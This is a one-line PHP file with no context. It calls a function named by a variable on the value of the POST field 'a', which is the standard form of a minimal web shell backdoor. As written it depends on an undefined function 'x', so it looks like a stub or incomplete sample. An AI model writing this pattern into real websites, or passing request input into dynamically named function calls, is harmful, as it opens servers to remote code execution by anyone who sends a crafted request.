<?php $f="x"; $f($_POST["a"]);
